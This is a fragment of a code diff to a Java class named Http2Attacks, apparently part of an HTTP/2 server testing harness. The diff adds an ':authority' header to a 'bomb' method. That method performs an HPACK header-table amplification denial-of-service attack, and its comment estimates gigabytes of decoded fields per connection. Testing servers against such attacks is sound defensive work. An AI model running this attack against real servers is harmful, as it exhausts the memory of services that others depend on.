@@ -142,7 +142,7 @@ final class Http2Attacks {
     /** RFC 7541 §7.3: a byte for a field of 4 kB. A request of 12 kB has 40 MB of fields, and a connection 4 GB. */
     private static void bomb(Target target) throws IOException {
         String large = "\u0040\1x\u007f\u00a1\u001e" + "y".repeat(4_000); // a literal that goes into the table
-        String request = Frames.latin1(Frames.block(":method", "GET", ":scheme", "http", ":path", "/plaintext"));
+        String request = Frames.latin1(Frames.block(":method", "GET", ":scheme", "http", ":authority", "a", ":path", "/plaintext"));
         Frames frames = Frames.client();
         for (int i = 0; i < STREAMS; i++) {
             String first = i == 0 ? large : "";
